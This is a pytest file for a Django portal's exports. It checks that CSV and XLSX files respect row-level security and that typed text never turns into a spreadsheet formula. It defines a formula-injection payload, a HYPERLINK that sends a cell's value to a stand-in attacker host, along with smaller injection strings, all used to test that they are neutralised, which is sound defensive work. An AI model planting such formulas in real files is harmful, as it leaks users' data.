"""Exports as production serves them: every streamed CSV and every XLSX, read as the
non-owner database role under row-level security, has the rows the API shows the same
user; and typed text never becomes a spreadsheet formula in any file (list exports,
report files, the audit trail)."""

import csv
import io
import zipfile

import pytest
from django.db import connection
from django.urls import reverse
from openpyxl import load_workbook

from applications.models import Application, Establishment
from khuyencong import rls
from khuyencong.models import AuditEntry
from khuyencong.spreadsheets import csv_lines, csv_safe
from provinces.choices import Role
from reports.choices import ReportFormat, ReportKind, ReportScope
from reports.models import ReportRun
from reports.tasks import report_run_task

from .conftest import HCM, TAY_NINH
from .report_fixtures import build_dataset

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&B3,"Bấm vào đây")'


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def data(db):
    return build_dataset()


def as_application_role():
    """From here on in this test's transaction: the non-owner role, no scope until a
    request sets one (as gunicorn runs the portal)."""
    with connection.cursor() as cursor:
        cursor.execute(f"SET LOCAL ROLE {rls.APP_ROLE}")
    rls.set_scope("")


def csv_rows(response):
    assert response.status_code == 200, response.content
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))[1:]


def xlsx_sheet(response):
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return workbook.active


def api_count(api_client_for, user, url):
    response = api_client_for(user).get(url, {"page_size": 500})
    assert response.status_code == 200, response.content
    return response.json()["count"]


LISTS = [
    ("reports:export_establishments", "/api/v1/establishments/"),
    ("reports:export_applications", "/api/v1/applications/"),
    ("reports:export_disbursements", "/api/v1/disbursements/"),
]


@pytest.mark.parametrize("role", ["province", "agency"])
def test_list_exports_under_row_level_security_have_the_rows_the_api_shows(
        data, role, tn_officer, agency_officer, client, api_client_for):
    user = tn_officer if role == "province" else agency_officer
    as_application_role()
    client.force_login(user)
    for url_name, api_url in LISTS:
        expected = api_count(api_client_for, user, api_url)
        assert expected > 0, api_url
        rows = csv_rows(client.get(reverse(url_name, args=["csv"])))
        sheet = xlsx_sheet(client.get(reverse(url_name, args=["xlsx"])))
        assert len(rows) == expected, url_name
        assert sheet.max_row - 1 == expected, url_name
    # The province officer's files never hold the other province's rows.
    applications = csv_rows(client.get(reverse("reports:export_applications", args=["csv"])))
    provinces = {int(row[3]) for row in applications}
    assert provinces == ({TAY_NINH} if role == "province" else {TAY_NINH, HCM})


def test_the_scope_does_not_outlive_the_stream(data, tn_officer, client):
    as_application_role()
    client.force_login(tn_officer)
    assert csv_rows(client.get(reverse("reports:export_establishments", args=["csv"])))
    with connection.cursor() as cursor:
        cursor.execute("SELECT coalesce(current_setting('kc.scope', true), '')")
        assert cursor.fetchone()[0] == ""
    assert not Establishment.objects.exists()  # nothing visible outside a request


def test_audit_csv_under_row_level_security_has_the_entries_the_api_shows(data, make_member, client,
                                                                         api_client_for):
    auditor = make_member(Role.AUDITOR, TAY_NINH, username="tn_auditor")
    agency = make_member(Role.AGENCY_OFFICER, agency=True, username="cuc_reader")
    as_application_role()
    for user in (auditor, agency):
        client.force_login(user)
        expected = api_count(api_client_for, user, "/api/v1/audit-entries/")
        rows = csv_rows(client.get(reverse("audit_csv")))
        assert expected > 0 and len(rows) == expected
    client.force_login(auditor)
    column = 11  # "Tỉnh/thành phố": the province by name
    assert {row[column] for row in csv_rows(client.get(reverse("audit_csv")))} <= {"Tỉnh Tây Ninh", ""}


# --- Formula injection ------------------------------------------------------------------------------------


def test_csv_cells_that_would_run_as_formulas_are_neutralised_and_numbers_stay_numbers():
    for text in ("=1+1", "+84 912", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_safe(text) == "'" + text
    assert csv_safe("Cơ sở = 1") == "Cơ sở = 1" and csv_safe(-5) == -5 and csv_safe(12.5) == 12.5
    assert csv_safe(None) == ""
    line = list(csv_lines(["a"], [[EVIL, 300_000_000]]))[1]
    assert line.startswith("\"'=HYPERLINK(") and line.rstrip().endswith(",300000000")


def _no_formulas(xlsx_bytes: bytes):
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def test_list_exports_write_typed_text_as_text(data, tn_officer, agency_officer, client):
    Establishment.objects.filter(pk=data.apps["a1"].establishments.get().pk).update(name=EVIL, address="@cmd")
    for user in (tn_officer, agency_officer):
        client.force_login(user)
        rows = csv_rows(client.get(reverse("reports:export_establishments", args=["csv"])))
        names = [row[1] for row in rows]
        assert "'" + EVIL in names and EVIL not in names
        response = client.get(reverse("reports:export_establishments", args=["xlsx"]))
        body = b"".join(response.streaming_content)
        _no_formulas(body)
        sheet = load_workbook(io.BytesIO(body)).active
        cells = {sheet.cell(row=r, column=2).value: r for r in range(2, sheet.max_row + 1)}
        row = cells[EVIL]  # shown exactly as typed, as text
        assert sheet.cell(row=row, column=2).data_type == "s"
        assert sheet.cell(row=row, column=10).value == "@cmd"
        assert isinstance(sheet.cell(row=row, column=1).value, int)  # the id stays a number


def test_report_files_write_typed_text_as_text(data, agency_officer, settings):
    settings.CELERY_TASK_ALWAYS_EAGER = True
    Application.objects.filter(pk=data.apps["a1"].pk).update(title=EVIL)
    run = ReportRun.objects.create(kind=ReportKind.PROVINCE_ANNUAL, scope=ReportScope.PROVINCE, year=2026,
                                   province_id=TAY_NINH, formats=[ReportFormat.XLSX, ReportFormat.CSV],
                                   requested_by=agency_officer)
    report_run_task.apply(args=[run.pk])
    files = {f.format: f.file.read() for f in run.files.all()}
    assert set(files) == {"xlsx", "csv"}
    _no_formulas(files["xlsx"])
    workbook = load_workbook(io.BytesIO(files["xlsx"]))
    texts = [cell.value for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]
    assert EVIL in texts
    assert any(isinstance(value, int) and value == 150_000_000 for value in texts)  # money stays a number
    cells = [cell for row in csv.reader(io.StringIO(files["csv"].decode("utf-8-sig"))) for cell in row]
    assert "'" + EVIL in cells and EVIL not in cells


def test_audit_csv_neutralises_typed_text(data, make_member, client):
    establishment = data.apps["a1"].establishments.get()
    establishment.name = EVIL
    establishment.save()
    assert AuditEntry.objects.filter(object_repr=EVIL).exists()
    client.force_login(make_member(Role.AUDITOR, TAY_NINH, username="tn_auditor2"))
    reprs = [row[7] for row in csv_rows(client.get(reverse("audit_csv")))]
    assert "'" + EVIL in reprs and EVIL not in reprs


def test_keyset_chunks_return_every_row_once_in_order(data):
    from applications.models import Disbursement
    from khuyencong.db.keyset import keyset_values

    for model, fields, ordering in [
        (Application, ["code"], ("-year", "-sequence", "-pk")),
        (Establishment, ["name", "tax_code"], ("sort_key", "pk")),
        (Disbursement, ["amount"], ("paid_on", "pk")),  # all on the same day: ties broken by the key
        (AuditEntry, ["object_repr"], ("-created_at", "-id")),
    ]:
        expected = list(model.objects.order_by(*ordering).values_list(*fields))
        for chunk in (1, 2, 3, 500):
            assert list(keyset_values(model.objects.all(), fields, ordering, chunk=chunk)) == expected
    with pytest.raises(ValueError):
        list(keyset_values(Application.objects.all(), ["code"], ("year", "-pk")))
